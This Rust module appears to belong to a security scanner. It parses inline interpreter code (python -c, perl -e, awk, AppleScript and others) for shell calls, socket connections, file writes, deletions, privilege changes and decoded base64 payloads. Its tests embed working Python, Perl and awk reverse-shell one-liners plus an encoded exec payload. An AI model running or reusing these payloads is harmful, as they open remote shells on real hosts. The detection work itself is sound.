//! Extraction from inline interpreter code (`python -c`, `perl -e`,
//! `ruby -e`, `node -e`, `php -r`, `lua -e`, awk programs, AppleScript):
//! strings handed to a shell, socket endpoints, files opened, URLs, and
//! base64 payloads decoded and searched again. These are interpreter
//! languages, not shell: matching their call patterns is the extraction.

use super::decode;
use regex::Regex;
use std::sync::OnceLock;

/// Something found in inline code.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Extracted {
    /// Shell text passed to os.system, subprocess(shell=True), system(), backticks, ...
    Shell { text: String, obfuscated: bool },
    /// An argv list (`subprocess.run(["rm", "-rf", "x"])`).
    Argv { argv: Vec<String>, obfuscated: bool },
    /// A socket connection.
    Connect {
        host: String,
        port: Option<u16>,
        obfuscated: bool,
    },
    /// A listening socket.
    Listen { port: Option<u16>, obfuscated: bool },
    /// A file opened.
    File {
        path: String,
        write: bool,
        obfuscated: bool,
    },
    /// A file removed.
    Delete { path: String, obfuscated: bool },
    /// A URL used.
    Url { url: String, obfuscated: bool },
    /// setuid(0) and the like.
    Privilege { obfuscated: bool },
    /// A program executed directly (execv, pty.spawn).
    Exec { program: String, obfuscated: bool },
}

impl Extracted {
    pub fn obfuscated(&self) -> bool {
        match self {
            Extracted::Shell { obfuscated, .. }
            | Extracted::Argv { obfuscated, .. }
            | Extracted::Connect { obfuscated, .. }
            | Extracted::Listen { obfuscated, .. }
            | Extracted::File { obfuscated, .. }
            | Extracted::Delete { obfuscated, .. }
            | Extracted::Url { obfuscated, .. }
            | Extracted::Privilege { obfuscated }
            | Extracted::Exec { obfuscated, .. } => *obfuscated,
        }
    }

    fn set_obfuscated(&mut self) {
        match self {
            Extracted::Shell { obfuscated, .. }
            | Extracted::Argv { obfuscated, .. }
            | Extracted::Connect { obfuscated, .. }
            | Extracted::Listen { obfuscated, .. }
            | Extracted::File { obfuscated, .. }
            | Extracted::Delete { obfuscated, .. }
            | Extracted::Url { obfuscated, .. }
            | Extracted::Privilege { obfuscated }
            | Extracted::Exec { obfuscated, .. } => *obfuscated = true,
        }
    }
}

/// ATT&CK technique of running inline code in a language.
pub(crate) fn technique(lang: &str) -> &'static str {
    match lang {
        "python" => "T1059.006",
        "node" => "T1059.007",
        "applescript" => "T1059.002",
        "powershell" => "T1059.001",
        "sh" | "awk" => "T1059.004",
        _ => "T1059",
    }
}

/// Whether an awk program does more than text processing.
pub(crate) fn awk_has_effects(prog: &str) -> bool {
    prog.contains("system")
        || prog.contains("getline")
        || prog.contains("/inet/")
        || prog.contains("| \"")
        || prog.contains("|\"")
        || prog.contains("> \"")
        || prog.contains(">\"")
        || prog.contains(">> \"")
}

// string literal alternatives: "..." or '...'
const STR: &str = r#"(?:"((?:[^"\\]|\\.)*)"|'((?:[^'\\]|\\.)*)')"#;

struct Patterns {
    shell_call: Regex,
    argv_call: Regex,
    string_lit: Regex,
    backtick: Regex,
    qx: Regex,
    connect: Regex,
    connect_port_first: Regex,
    perl_peer: Regex,
    perl_port: Regex,
    bind: Regex,
    listen_port: Regex,
    open_file: Regex,
    perl_open: Regex,
    read_file: Regex,
    write_file: Regex,
    delete_file: Regex,
    url: Regex,
    b64: Regex,
    hex: Regex,
    exec_code: Regex,
    setuid: Regex,
    spawn: Regex,
    awk_inet: Regex,
    awk_pipe: Regex,
    applescript: Regex,
}

fn patterns() -> Option<&'static Patterns> {
    static P: OnceLock<Option<Patterns>> = OnceLock::new();
    P.get_or_init(|| {
        let r = |s: String| Regex::new(&s).ok();
        Some(Patterns {
            shell_call: r(format!(r"(?:os\.system|os\.popen|popen2?|subprocess\.(?:call|run|Popen|check_output|check_call|getoutput|getstatusoutput)|commands\.getoutput|\bsystem|shell_exec|passthru|proc_open|execSync|\bexec|spawnSync|spawn|IO\.popen|Kernel\.system|Open3\.\w+|os\.execute|io\.popen|do shell script)\s*\(?\s*(?:[rbuf]{{0,2}}){STR}"))?,
            argv_call: r(r"(?:subprocess\.(?:call|run|Popen|check_output|check_call)|os\.exec\w*|os\.spawn\w*|execFileSync|execFile|spawnSync|spawn|system|exec)\s*\(\s*(?:[^,\[\)]*,\s*)?\[([^\]]*)\]".to_string())?,
            string_lit: r(STR.to_string())?,
            backtick: r(r"`([^`]+)`".to_string())?,
            qx: r(r"qx\s*[\{\(/]([^\}\)/]+)[\}\)/]".to_string())?,
            connect: r(format!(r"(?:connect|create_connection|connect_ex|TCPSocket\.(?:new|open)|Socket\.tcp|fsockopen|pfsockopen|stream_socket_client|socket\.connect|\.tcp)\s*\(\s*\(?\s*{STR}\s*,\s*(\d{{1,5}})"))?,
            connect_port_first: r(format!(r"(?:connect|createConnection|Socket\(\)\.connect)\s*\(\s*(\d{{1,5}})\s*,\s*{STR}"))?,
            perl_peer: r(format!(r"PeerAddr\s*=>\s*{STR}"))?,
            perl_port: r(r#"PeerPort\s*=>\s*["']?(\d{1,5})"#.to_string())?,
            bind: r(format!(r"(?:bind|listen)\s*\(\s*\(\s*{STR}\s*,\s*(\d{{1,5}})"))?,
            listen_port: r(r"(?:\.listen|LocalPort\s*=>|TCPServer\.new)\s*\(?\s*['\x22]?(\d{2,5})".to_string())?,
            open_file: r(format!(r"\bopen\s*\(\s*{STR}\s*(?:,\s*{STR})?"))?,
            perl_open: r(r#"open\s*\(?\s*[\$\w]+\s*,\s*["']([<>+|]*)\s*([^"']+)["']"#.to_string())?,
            read_file: r(format!(r"(?:readFileSync|readFile|File\.read|File\.readlines|IO\.read|file_get_contents|readfile|fopen|Path)\s*\(\s*{STR}"))?,
            write_file: r(format!(r"(?:writeFileSync|writeFile|appendFileSync|appendFile|File\.write|file_put_contents|createWriteStream)\s*\(\s*{STR}"))?,
            delete_file: r(format!(r"(?:os\.remove|os\.unlink|os\.rmdir|shutil\.rmtree|\bunlink|rmSync|rmdirSync|unlinkSync|FileUtils\.rm_rf|FileUtils\.rm|File\.delete|rmtree)\s*\(\s*{STR}"))?,
            url: r(r#"(?:https?|ftp|wss?)://[^\s"'<>\)\]\}`]+"#.to_string())?,
            b64: r(format!(r"(?:b64decode|decodebytes|decode_base64|Base64\.decode64|base64_decode|atob|unpack\(\s*['\x22]m['\x22]\s*,|Buffer\.from)\s*\(\s*(?:[rbuf]{{0,2}}){STR}"))?,
            hex: r(format!(r"(?:bytes\.fromhex|unhexlify|hex2bin|pack\(\s*['\x22]H\*['\x22]\s*,)\s*\(?\s*{STR}"))?,
            exec_code: r(format!(r"(?:\bexec|\beval|compile)\s*\(\s*(?:[rbuf]{{0,2}}){STR}"))?,
            setuid: r(r"(?:setuid|setresuid|setreuid|seteuid|POSIX::setuid)\s*\(\s*0|\$<\s*=\s*0|\$>\s*=\s*0".to_string())?,
            spawn: r(format!(r"(?:pty\.spawn|os\.execl?p?e?|os\.execv\w*|Process\.spawn|child_process\.spawn)\s*\(\s*\[?\s*{STR}"))?,
            awk_inet: r(r"/inet\d?/(tcp|udp)/(\d+)/([^/\x22]+)/(\d+)".to_string())?,
            awk_pipe: r(format!(r"(?:{STR}\s*\|\s*getline|\|\s*{STR}|system\s*\(\s*{STR})"))?,
            applescript: r(format!(r"do shell script\s+{STR}"))?,
        })
    })
    .as_ref()
}

fn lit(c: &regex::Captures<'_>, first: usize) -> Option<String> {
    let m = c.get(first).or_else(|| c.get(first + 1))?;
    Some(unescape(m.as_str()))
}

fn unescape(s: &str) -> String {
    let (d, _) = decode::c_escapes(s);
    d
}

/// Extract effects from inline code.
pub(crate) fn extract(lang: &str, code: &str) -> Vec<Extracted> {
    let mut out = Vec::new();
    extract_into(lang, code, 0, &mut out);
    out
}

fn extract_into(lang: &str, code: &str, depth: usize, out: &mut Vec<Extracted>) {
    if depth > 3 || out.len() > 256 {
        return;
    }
    let Some(p) = patterns() else {
        return;
    };
    let code: &str = if code.len() > 256 * 1024 {
        code.get(..256 * 1024).unwrap_or("")
    } else {
        code
    };
    if lang == "awk" {
        for c in p.awk_inet.captures_iter(code) {
            let host = c.get(3).map_or("", |m| m.as_str()).to_string();
            let port = c.get(4).and_then(|m| m.as_str().parse().ok());
            let lport: u16 = c.get(2).and_then(|m| m.as_str().parse().ok()).unwrap_or(0);
            if host == "0" && lport != 0 {
                out.push(Extracted::Listen {
                    port: Some(lport),
                    obfuscated: false,
                });
            } else {
                out.push(Extracted::Connect {
                    host,
                    port,
                    obfuscated: false,
                });
            }
        }
        for c in p.awk_pipe.captures_iter(code) {
            let t = lit(&c, 1).or_else(|| lit(&c, 3)).or_else(|| lit(&c, 5));
            if let Some(t) = t {
                if !t.starts_with("/inet") {
                    out.push(Extracted::Shell {
                        text: t,
                        obfuscated: false,
                    });
                }
            }
        }
        return;
    }
    if lang == "applescript" {
        for c in p.applescript.captures_iter(code) {
            if let Some(t) = lit(&c, 1) {
                out.push(Extracted::Shell {
                    text: t,
                    obfuscated: false,
                });
            }
        }
        return;
    }
    for c in p.shell_call.captures_iter(code) {
        if let Some(t) = lit(&c, 1) {
            // exec("...") in python/php is code, not shell: handled below
            let whole = c.get(0).map_or("", |m| m.as_str());
            if lang == "python" && whole.starts_with("exec") {
                continue;
            }
            out.push(Extracted::Shell {
                text: t,
                obfuscated: false,
            });
        }
    }
    for c in p.argv_call.captures_iter(code) {
        let inner = c.get(1).map_or("", |m| m.as_str());
        let argv: Vec<String> = p
            .string_lit
            .captures_iter(inner)
            .filter_map(|s| lit(&s, 1))
            .collect();
        if !argv.is_empty() {
            out.push(Extracted::Argv {
                argv,
                obfuscated: false,
            });
        }
    }
    if matches!(lang, "perl" | "ruby" | "php") {
        for c in p.backtick.captures_iter(code) {
            if let Some(m) = c.get(1) {
                out.push(Extracted::Shell {
                    text: m.as_str().to_string(),
                    obfuscated: false,
                });
            }
        }
        for c in p.qx.captures_iter(code) {
            if let Some(m) = c.get(1) {
                out.push(Extracted::Shell {
                    text: m.as_str().to_string(),
                    obfuscated: false,
                });
            }
        }
    }
    for c in p.connect.captures_iter(code) {
        if let Some(h) = lit(&c, 1) {
            let port = c.get(3).and_then(|m| m.as_str().parse().ok());
            out.push(Extracted::Connect {
                host: h,
                port,
                obfuscated: false,
            });
        }
    }
    for c in p.connect_port_first.captures_iter(code) {
        if let Some(h) = lit(&c, 2) {
            let port = c.get(1).and_then(|m| m.as_str().parse().ok());
            out.push(Extracted::Connect {
                host: h,
                port,
                obfuscated: false,
            });
        }
    }
    for c in p.perl_peer.captures_iter(code) {
        if let Some(h) = lit(&c, 1) {
            let (host, port) = match h.rsplit_once(':') {
                Some((a, b)) => (a.to_string(), b.parse().ok()),
                None => (
                    h.clone(),
                    p.perl_port
                        .captures(code)
                        .and_then(|pc| pc.get(1))
                        .and_then(|m| m.as_str().parse().ok()),
                ),
            };
            out.push(Extracted::Connect {
                host,
                port,
                obfuscated: false,
            });
        }
    }
    for c in p.bind.captures_iter(code) {
        let port = c.get(3).and_then(|m| m.as_str().parse().ok());
        out.push(Extracted::Listen {
            port,
            obfuscated: false,
        });
    }
    for c in p.listen_port.captures_iter(code) {
        let port = c.get(1).and_then(|m| m.as_str().parse().ok());
        out.push(Extracted::Listen {
            port,
            obfuscated: false,
        });
    }
    for c in p.open_file.captures_iter(code) {
        if let Some(path) = lit(&c, 1) {
            if path.contains("://") {
                continue;
            }
            let mode = lit(&c, 3).unwrap_or_default();
            let write = mode.contains(['w', 'a', '+', 'x']);
            out.push(Extracted::File {
                path,
                write,
                obfuscated: false,
            });
        }
    }
    if lang == "perl" {
        for c in p.perl_open.captures_iter(code) {
            let mode = c.get(1).map_or("", |m| m.as_str());
            let path = c.get(2).map_or("", |m| m.as_str()).trim().to_string();
            if mode.contains('|') {
                out.push(Extracted::Shell {
                    text: path,
                    obfuscated: false,
                });
            } else {
                out.push(Extracted::File {
                    path,
                    write: mode.contains('>'),
                    obfuscated: false,
                });
            }
        }
    }
    for c in p.read_file.captures_iter(code) {
        if let Some(path) = lit(&c, 1) {
            if !path.contains("://") {
                out.push(Extracted::File {
                    path,
                    write: false,
                    obfuscated: false,
                });
            }
        }
    }
    for c in p.write_file.captures_iter(code) {
        if let Some(path) = lit(&c, 1) {
            out.push(Extracted::File {
                path,
                write: true,
                obfuscated: false,
            });
        }
    }
    for c in p.delete_file.captures_iter(code) {
        if let Some(path) = lit(&c, 1) {
            out.push(Extracted::Delete {
                path,
                obfuscated: false,
            });
        }
    }
    for m in p.url.find_iter(code) {
        out.push(Extracted::Url {
            url: m.as_str().to_string(),
            obfuscated: false,
        });
    }
    if p.setuid.is_match(code) {
        out.push(Extracted::Privilege { obfuscated: false });
    }
    for c in p.spawn.captures_iter(code) {
        if let Some(prog) = lit(&c, 1) {
            out.push(Extracted::Exec {
                program: prog,
                obfuscated: false,
            });
        }
    }
    // code evaluated from strings: search it as code of the same language
    for c in p.exec_code.captures_iter(code) {
        if let Some(inner) = lit(&c, 1) {
            if inner.len() > 3 {
                extract_into(lang, &inner, depth + 1, out);
            }
        }
    }
    // decoded payloads: searched as code and as shell text
    let mut decoded: Vec<String> = Vec::new();
    for c in p.b64.captures_iter(code) {
        if let Some(s) = lit(&c, 1) {
            if let Some(d) = decode::base64_decode(&s) {
                decoded.push(d);
            }
        }
    }
    for c in p.hex.captures_iter(code) {
        if let Some(s) = lit(&c, 1) {
            if let Some(d) = decode::hex_decode(&s) {
                decoded.push(d);
            }
        }
    }
    for d in decoded {
        let start = out.len();
        extract_into(lang, &d, depth + 1, out);
        if out.len() == start && looks_like_shell(&d) {
            out.push(Extracted::Shell {
                text: d.clone(),
                obfuscated: true,
            });
        }
        for e in out.iter_mut().skip(start) {
            e.set_obfuscated();
        }
    }
}

fn looks_like_shell(s: &str) -> bool {
    let t = s.trim_start();
    let first = t.split_whitespace().next().unwrap_or("");
    !first.is_empty()
        && first.len() < 64
        && first
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "/._-".contains(c))
        && (super::kb::table()
            .get(first.rsplit('/').next().unwrap_or(first))
            .is_some()
            || first.starts_with('/'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn python_reverse_shell() {
        let code = r#"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0); import pty; pty.spawn("/bin/sh")"#;
        let e = extract("python", code);
        assert!(
            e.contains(&Extracted::Connect {
                host: "10.0.0.1".into(),
                port: Some(4242),
                obfuscated: false
            }),
            "{e:?}"
        );
        assert!(e
            .iter()
            .any(|x| matches!(x, Extracted::Exec { program, .. } if program == "/bin/sh")));
    }

    #[test]
    fn python_system_and_b64() {
        let e = extract("python", r#"import os; os.system("rm -rf /tmp/x")"#);
        assert!(e.contains(&Extracted::Shell {
            text: "rm -rf /tmp/x".into(),
            obfuscated: false
        }));
        let e = extract(
            "python",
            r#"import base64,os;exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=="))"#,
        );
        assert!(
            e.iter()
                .any(|x| matches!(x, Extracted::Shell { text, obfuscated: true } if text == "id")),
            "{e:?}"
        );
    }

    #[test]
    fn perl_and_awk() {
        let e = extract(
            "perl",
            r#"use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){exec("/bin/sh -i");};"#,
        );
        assert!(
            e.iter()
                .any(|x| matches!(x, Extracted::Shell { text, .. } if text == "/bin/sh -i")),
            "{e:?}"
        );
        let e = extract(
            "awk",
            r#"BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { s |& getline c; system(c) }}"#,
        );
        assert!(e.iter().any(|x| matches!(x, Extracted::Connect { host, port: Some(4242), .. } if host == "10.0.0.1")), "{e:?}");
    }
}
